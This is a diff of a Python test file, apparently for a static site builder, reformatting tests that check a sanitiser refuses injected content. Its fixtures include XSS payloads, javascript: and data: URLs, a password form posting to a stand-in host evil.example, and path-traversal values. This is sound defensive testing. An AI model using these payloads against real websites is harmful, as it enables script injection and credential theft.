@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import re
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
 from bs4 import BeautifulSoup
@@ -23,15 +23,15 @@ if TYPE_CHECKING:
 REFUSED = {
     "script": "<script>alert(1)</script>",
     "script-in-a-line": "Text <SCRIPT SRC=//evil.example/x.js></SCRIPT> text",
-    "handler": "<p onclick=\"alert(1)\">a</p>",
+    "handler": '<p onclick="alert(1)">a</p>',
     "handler-without-quotes": "<img src=x.png alt=a onerror=alert(1)>",
     "handler-after-a-slash": "<img src='x.png' alt='a'/onerror=alert(1)>",
-    "handler-in-a-list-of-attributes": "A paragraph.\n{: onmouseover=\"alert(1)\" }",
-    "style-in-a-list-of-attributes": "A paragraph.\n{: style=\"position:fixed\" }",
+    "handler-in-a-list-of-attributes": 'A paragraph.\n{: onmouseover="alert(1)" }',
+    "style-in-a-list-of-attributes": 'A paragraph.\n{: style="position:fixed" }',
     "javascript": "[a](javascript:alert(1))",
     "javascript-in-capitals": "[a](JaVaScRiPt:alert(1))",
     "javascript-in-disguise": "[a](java&#115;cript:alert(1))",
-    "javascript-with-a-tab": "<a href=\"java&#9;script:alert(1)\">a</a>",
+    "javascript-with-a-tab": '<a href="java&#9;script:alert(1)">a</a>',
     "javascript-in-a-reference": "[a][b]\n\n[b]: javascript:alert(1)",
     "javascript-in-an-autolink": "<javascript:alert(1)>",
     "javascript-in-a-picture": "![a](javascript:alert(1))",
@@ -39,44 +39,44 @@ REFUSED = {
     "vbscript": "[a](vbscript:msgbox(1))",
     "data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "data-picture": "<img alt='a' src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
-    "iframe": "<iframe src=\"https://evil.example/\"></iframe>",
-    "object": "<object data=\"x.swf\"></object>",
-    "embed": "<embed src=\"x.swf\">",
-    "form": "<form action=\"https://evil.example/\"><input name=\"password\"></form>",
+    "iframe": '<iframe src="https://evil.example/"></iframe>',
+    "object": '<object data="x.swf"></object>',
+    "embed": '<embed src="x.swf">',
+    "form": '<form action="https://evil.example/"><input name="password"></form>',
     "style": "<style>body { display: none }</style>",
-    "style-attribute": "<div style=\"position: fixed\">a</div>",
-    "svg": "<svg onload=\"alert(1)\"><circle/></svg>",
-    "math": "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">a</maction></math>",
-    "base": "<base href=\"https://evil.example/\">",
-    "refresh": "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
-    "link": "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
-    "in-html-with-markdown": "<div markdown=\"1\" onclick=\"alert(1)\">*a*</div>",
-    "in-a-list": "- one\n\n    <iframe src=\"https://evil.example/\"></iframe>\n",
+    "style-attribute": '<div style="position: fixed">a</div>',
+    "svg": '<svg onload="alert(1)"><circle/></svg>',
+    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
+    "base": '<base href="https://evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "in-html-with-markdown": '<div markdown="1" onclick="alert(1)">*a*</div>',
+    "in-a-list": '- one\n\n    <iframe src="https://evil.example/"></iframe>\n',
     "in-a-table": "| a |\n| - |\n| <script>alert(1)</script> |",
     "in-a-quote": "> <script>alert(1)</script>",
     "in-a-note": "!!! note\n    <script>alert(1)</script>",
     "in-a-heading": "## <script>alert(1)</script>",
-    "unclosed": "<script src=\"https://evil.example/x.js\" ",
+    "unclosed": '<script src="https://evil.example/x.js" ',
     "after-a-comment": "<!-- a --><script>alert(1)</script>",
     "template": "<template><img src=x onerror=alert(1)></template>",
-    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-    "video": "<video src=\"https://evil.example/x.mp4\" autoplay></video>",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "video": '<video src="https://evil.example/x.mp4" autoplay></video>',
 }  # fmt: skip
 """What the check must refuse, with its line."""
 
 STRANGE = {
     "fence-with-attributes": "``` {.python onclick=alert(1) style=x }\na = 1\n```",
-    "abbreviation": "LGA\n\n*[LGA]: \"><script>alert(1)</script>",
+    "abbreviation": 'LGA\n\n*[LGA]: "><script>alert(1)</script>',
     "code": "`<script>alert(1)</script>` and\n\n    <script>alert(1)</script>\n",
-    "link-title": "[a](https://example.org \"x\\\" onclick=alert(1)\")",
-    "picture-text": "![\"><script>alert(1)</script>](x.png)",
+    "link-title": '[a](https://example.org "x\\" onclick=alert(1)")',
+    "picture-text": '!["><script>alert(1)</script>](x.png)',
     "comment": "<!-- <script>alert(1)</script> -->",
     "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
-    "heading-id": "## Heading {: #\"><script>alert(1)</script> }",
-    "footnote": "a[^\"onmouseover=alert(1)]\n\n[^\"onmouseover=alert(1)]: b",
+    "heading-id": '## Heading {: #"><script>alert(1)</script> }',
+    "footnote": 'a[^"onmouseover=alert(1)]\n\n[^"onmouseover=alert(1)]: b',
     "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
     "template-language": "{{ config }} {% include 'secret' %} {# comment #}",
-    "class-of-ours": "<div class=\"st-masthead\" id=\"content\">a</div>",
+    "class-of-ours": '<div class="st-masthead" id="content">a</div>',
 }
 """What the check may let pass, because the sanitiser makes it harmless."""
 
@@ -104,9 +104,12 @@ def test_the_check_refuses_what_could_harm_and_names_its_line(attack: str) -> No
 def unchecked(tmp_path_factory: pytest.TempPathFactory) -> Site:
     """Return a site built from attacks with the check taken out, as if something had slipped past it."""
     files: dict[str, str | bytes] = {
-        f"2026/{name}.md": story_text(body_of(text), id=f"attack-{name}", title=f"Attack {name}") for name, text in ATTACKS.items()
+        f"2026/{name}.md": story_text(body_of(text), id=f"attack-{name}", title=f"Attack {name}")
+        for name, text in ATTACKS.items()
     }
-    project = make_project(tmp_path_factory.mktemp("attacks") / "project", files, {"vocabularies": {"themes": ["digitalisation"]}})
+    project = make_project(
+        tmp_path_factory.mktemp("attacks") / "project", files, {"vocabularies": {"themes": ["digitalisation"]}}
+    )
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr(StoriesPlugin, "_report", lambda *_: None)
         return build(project, TODAY)
@@ -114,7 +117,12 @@ def unchecked(tmp_path_factory: pytest.TempPathFactory) -> Site:
 
 def harm_in(page: BeautifulSoup) -> list[str]:
     """Return what could harm the reader of a page, apart from the theme's own scripts."""
-    found = [str(element) for element in page.find_all(["iframe", "object", "embed", "base", "math", "video", "template", "style", "noscript"])]
+    found = [
+        str(element)
+        for element in page.find_all(
+            ["iframe", "object", "embed", "base", "math", "video", "template", "style", "noscript"]
+        )
+    ]
     found += [str(element) for element in page.find_all("meta", attrs={"http-equiv": True})]
     for element in page.find_all(True):
         if element.find_parent("svg") or element.name == "svg":
@@ -160,19 +168,21 @@ def test_a_story_is_no_template(unchecked: Site) -> None:
         {"artefacts": [{"title": "a", "kind": "data", "url": "javascript:alert(1)"}]},
         {"link": "javascript:alert(1)", "kind": "signpost"},
         {"sources": [{"title": "a", "date": 2013, "url": "data:text/html,a"}]},
-        {"contact": {"team": "a", "email": "a@b.example\" onclick=\"alert(1)"}},
+        {"contact": {"team": "a", "email": 'a@b.example" onclick="alert(1)'}},
         {"aliases": ["/../outside/"]},
         {"aliases": ["//evil.example/"]},
         {"aliases": ["/feed.xml"]},
-        {"aliases": ["/\"><script>alert(1)</script>/"]},
+        {"aliases": ['/"><script>alert(1)</script>/']},
         {"id": "<script>"},
         {"title": "a\u0000b"},
     ],
     ids=lambda value: next(iter(value)),
 )  # fmt: skip
-def test_front_matter_cannot_lead_out_of_the_site(front_matter: dict[str, object], tmp_path: Path) -> None:
+def test_front_matter_cannot_lead_out_of_the_site(front_matter: dict[str, Any], tmp_path: Path) -> None:
     project = make_project(
-        tmp_path / "project", {"2026/good.md": story_text(**front_matter)}, {"vocabularies": {"themes": ["digitalisation"]}}
+        tmp_path / "project",
+        {"2026/good.md": story_text(**front_matter)},
+        {"vocabularies": {"themes": ["digitalisation"]}},
     )
     with pytest.raises(Abort):
         build(project, TODAY)
@@ -180,6 +190,8 @@ def test_front_matter_cannot_lead_out_of_the_site(front_matter: dict[str, object
 
 @pytest.mark.parametrize("name", ["../outside.md", "2026/../../outside.md"])
 def test_files_outside_the_folder_are_not_read(name: str, tmp_path: Path) -> None:
-    project = make_project(tmp_path / "project", {name: story_text(id="zyzzyva")}, {"vocabularies": {"themes": ["digitalisation"]}})
+    project = make_project(
+        tmp_path / "project", {name: story_text(id="zyzzyva")}, {"vocabularies": {"themes": ["digitalisation"]}}
+    )
     site = build(project, TODAY)
     assert [path for path, content in site.files.items() if b"zyzzyva" in content] == []
